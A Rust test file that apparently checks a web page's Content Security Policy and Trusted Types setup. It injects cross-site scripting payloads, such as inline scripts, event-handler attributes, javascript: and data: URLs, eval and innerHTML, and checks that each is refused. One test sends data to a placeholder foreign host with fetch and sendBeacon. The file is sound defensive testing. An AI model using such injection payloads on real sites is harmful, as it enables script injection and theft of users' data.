//! The page lives under a strict policy, which it carries itself: it does all it can do without breaking it, and what is
//! smuggled into the page can do nothing.

use crate::harness::{Answer, Page, Site, assert_none, run, run_on};
use crate::tour;
use on_the_record::site::{POLICY, headers};
use std::sync::Arc;
use std::time::Duration;

/// Asserts that nothing was refused, and that nobody was asked but the page's own host.
async fn assert_kept(page: &Page) {
    assert_none(&page.said().await, "the page said");
    let log = page.driver().browser_log().await;
    assert_none(&log, "the browser logged");
    let own = ["chrome:", "chrome-untrusted:", "data:", "about:", page.address()];
    let asked = page.driver().requested().await;
    if page.driver().hears_of_its_own_host() {
        assert!(asked.iter().any(|address| address.ends_with(".wasm")), "no wasm was asked for: {asked:?}");
    }
    let elsewhere: Vec<_> =
        asked.into_iter().filter(|address| !own.iter().any(|own| address.starts_with(own))).collect();
    assert_none(&elsewhere, "asked elsewhere");
}

#[test]
fn a_tour_of_every_feature_breaks_no_rule_and_asks_nobody_else() {
    run(|page| async move {
        page.open("").await;
        tour::at_a_desk(&page).await;
        assert_kept(&page).await;
    });
}

#[test]
fn a_tour_on_a_phone_breaks_no_rule_and_asks_nobody_else() {
    run(|page| async move {
        page.phone(390, 844).await;
        page.open("").await;
        tour::on_a_phone(&page).await;
        assert_kept(&page).await;
    });
}

#[test]
fn the_same_policy_as_headers_is_kept_too() {
    let strict = Site::dist().answering(|_, answer| {
        headers().into_iter().fold(answer, |answer, (name, value)| answer.with_header(name, &value))
    });
    run_on(strict, |page| async move {
        page.open("").await;
        tour::at_a_desk(&page).await;
        assert_kept(&page).await;
    });
}

#[test]
fn the_one_trusted_types_policy_makes_no_other_script() {
    run(|page| async move {
        page.open("").await;
        // The boot file has made it, and there can be no second of the name, nor another.
        for name in ["on-the-record", "other", "default"] {
            let refused: bool = page
                .eval(&format!(
                    "(() => {{ try {{ trustedTypes.createPolicy('{name}', {{}}); return false; }} catch {{ return true; }} }})()"
                ))
                .await;
            assert!(refused, "a policy called {name} can be made");
        }
    });
}

/// Something smuggled into the page, which sets `window.hit` or asks a foreign host if it can.
struct Smuggled {
    /// Markup that an attacker got into the page.
    markup: &'static str,
    /// What a script of the page's own host does with an attacker's words.
    script: &'static str,
    /// The part of the policy that has to stop it, or one of two.
    directive: &'static str,
}

const NONE: Smuggled = Smuggled { markup: "", script: "", directive: "" };

/// Asserts that it works without the policy, and neither works nor goes unreported with it.
/// `ELSEWHERE` in it stands for the address of a foreign host.
fn assert_stopped(smuggled: Smuggled) {
    for under_policy in [false, true] {
        let elsewhere = Site::dist().answering(|path, answer| match path {
            "hit.js" => Answer { body: b"window.hit = true".to_vec(), ..Answer::status(200) }
                .with_header("content-type", "text/javascript")
                .with_header("access-control-allow-origin", "*"),
            _ => Answer::status(204).with_header("access-control-allow-origin", "*").after(answer.delay),
        });
        let elsewhere = elsewhere.serve(Arc::default());
        let filled = |text: &str| text.replace("ELSEWHERE/", &elsewhere.address);
        let (markup, script) = (filled(smuggled.markup), filled(smuggled.script));
        let site = Site::dist().answering(move |path, answer| match path {
            "" => {
                let page = String::from_utf8(answer.body.clone()).expect("the page is text");
                assert!(page.contains(POLICY), "the page has no policy");
                let page = if under_policy { page } else { page.replace("http-equiv=", "name=") };
                let page = page.replacen("<body>", &format!("<body>{markup}<script src=\"gadget.js\"></script>"), 1);
                Answer { body: page.into_bytes(), ..answer }
            }
            "gadget.js" => Answer { body: script.clone().into_bytes(), ..Answer::status(200) }
                .with_header("content-type", "text/javascript"),
            _ => answer,
        });
        let directive = smuggled.directive;
        run_on(site, move |page| async move {
            page.load("").await;
            let stopped = "window.__record.said().filter((line) => line.startsWith('policy violation'))";
            let start = std::time::Instant::now();
            loop {
                let hit = page.eval::<bool>("!!window.hit").await || !elsewhere.seen().is_empty();
                let violations: Vec<String> = page.eval(stopped).await;
                if under_policy {
                    assert!(!hit, "it gets through the policy");
                    if violations.iter().any(|line| directive.split('|').any(|directive| line.contains(directive))) {
                        // What was refused stays refused.
                        tokio::time::sleep(Duration::from_millis(300)).await;
                        assert!(
                            !page.eval::<bool>("!!window.hit").await && elsewhere.seen().is_empty(),
                            "it gets through late"
                        );
                        return;
                    }
                } else if hit {
                    return;
                }
                let waited = start.elapsed() < Duration::from_secs(10);
                assert!(waited, "under the policy: {under_policy}; nothing happened. Refused: {violations:?}");
                tokio::time::sleep(Duration::from_millis(50)).await;
            }
        });
    }
}

#[test]
fn an_inline_script_does_not_run() {
    assert_stopped(Smuggled { markup: "<script>window.hit = true</script>", directive: "script-src", ..NONE });
}

#[test]
fn an_event_handler_in_an_attribute_does_not_run() {
    assert_stopped(Smuggled {
        markup: "<input autofocus onfocus='window.hit = true'><svg onload='window.hit = true'></svg>",
        directive: "script-src",
        ..NONE
    });
}

#[test]
fn a_script_in_an_address_does_not_run() {
    assert_stopped(Smuggled {
        markup: "<a id=bad href='javascript:void(window.hit = true)'>x</a>",
        script: "document.getElementById('bad').click()",
        directive: "script-src|require-trusted-types-for",
    });
}

#[test]
fn a_script_in_a_data_address_does_not_run() {
    assert_stopped(Smuggled {
        markup: "<script src='data:text/javascript,window.hit=true'></script>",
        directive: "script-src",
        ..NONE
    });
}

#[test]
fn a_script_from_elsewhere_does_not_run() {
    assert_stopped(Smuggled { markup: "<script src='ELSEWHERE/hit.js'></script>", directive: "script-src", ..NONE });
}

#[test]
fn a_module_from_elsewhere_does_not_run() {
    assert_stopped(Smuggled { script: "import('ELSEWHERE/hit.js').catch(() => {})", directive: "script-src", ..NONE });
}

#[test]
fn eval_does_not_run() {
    assert_stopped(Smuggled {
        script: "eval('window.hit = true')",
        directive: "script-src|require-trusted-types-for",
        ..NONE
    });
}

#[test]
fn a_function_made_of_words_does_not_run() {
    assert_stopped(Smuggled {
        script: "new Function('window.hit = true')()",
        directive: "script-src|require-trusted-types-for",
        ..NONE
    });
}

#[test]
fn a_timer_with_words_does_not_run() {
    assert_stopped(Smuggled {
        script: "setTimeout('window.hit = true')",
        directive: "script-src|require-trusted-types-for",
        ..NONE
    });
}

#[test]
fn words_do_not_become_markup() {
    assert_stopped(Smuggled {
        script: "const box = document.createElement('p'); box.innerHTML = '<b>x</b>'; window.hit = box.firstChild?.localName === 'b'",
        directive: "require-trusted-types-for",
        ..NONE
    });
}

#[test]
fn words_do_not_become_the_address_of_a_script() {
    assert_stopped(Smuggled {
        script: "const it = document.createElement('script'); it.src = 'gadget.js?'; window.hit = it.hasAttribute('src')",
        directive: "require-trusted-types-for",
        ..NONE
    });
}

#[test]
fn an_inline_style_sheet_does_nothing() {
    assert_stopped(Smuggled {
        markup: "<style>:root { --hit: 1 }</style>",
        script: "setInterval(() => { if (getComputedStyle(document.documentElement).getPropertyValue('--hit')) window.hit = true }, 20)",
        directive: "style-src",
    });
}

#[test]
fn a_style_in_an_attribute_does_nothing() {
    assert_stopped(Smuggled {
        markup: "<p id=bad style='--hit: 1'></p>",
        script: "setInterval(() => { if (getComputedStyle(document.getElementById('bad')).getPropertyValue('--hit')) window.hit = true }, 20)",
        directive: "style-src",
    });
}

#[test]
fn a_style_sheet_from_elsewhere_is_not_asked_for() {
    assert_stopped(Smuggled { markup: "<link rel=stylesheet href='ELSEWHERE/x.css'>", directive: "style-src", ..NONE });
}

#[test]
fn a_picture_from_elsewhere_is_not_asked_for() {
    assert_stopped(Smuggled { markup: "<img src='ELSEWHERE/x.png' alt=x>", directive: "img-src", ..NONE });
}

#[test]
fn nothing_can_be_told_elsewhere() {
    assert_stopped(Smuggled {
        script: "fetch('ELSEWHERE/x').catch(() => {}); navigator.sendBeacon('ELSEWHERE/y', 'z')",
        directive: "connect-src",
        ..NONE
    });
}

#[test]
fn a_frame_from_elsewhere_is_not_opened() {
    assert_stopped(Smuggled { markup: "<iframe src='ELSEWHERE/x'></iframe>", directive: "frame-src", ..NONE });
}

#[test]
fn a_plugin_from_elsewhere_is_not_loaded() {
    assert_stopped(Smuggled { markup: "<object data='ELSEWHERE/x'></object>", directive: "object-src", ..NONE });
}

#[test]
fn a_form_sends_nothing_elsewhere() {
    assert_stopped(Smuggled {
        markup: "<form id=bad action='ELSEWHERE/x' method=post></form>",
        script: "addEventListener('load', () => setTimeout(() => document.getElementById('bad').submit(), 300))",
        directive: "form-action",
    });
}

#[test]
fn addresses_cannot_be_given_another_base() {
    assert_stopped(Smuggled {
        markup: "<base href='ELSEWHERE/'>",
        script: "window.hit = document.baseURI !== location.href.split('#')[0]",
        directive: "base-uri",
    });
}

#[test]
fn a_worker_made_of_words_does_not_run() {
    assert_stopped(Smuggled {
        script: "const words = URL.createObjectURL(new Blob(['postMessage(1)']));
            new Worker(words).onmessage = () => { window.hit = true }",
        directive: "require-trusted-types-for",
        ..NONE
    });
}
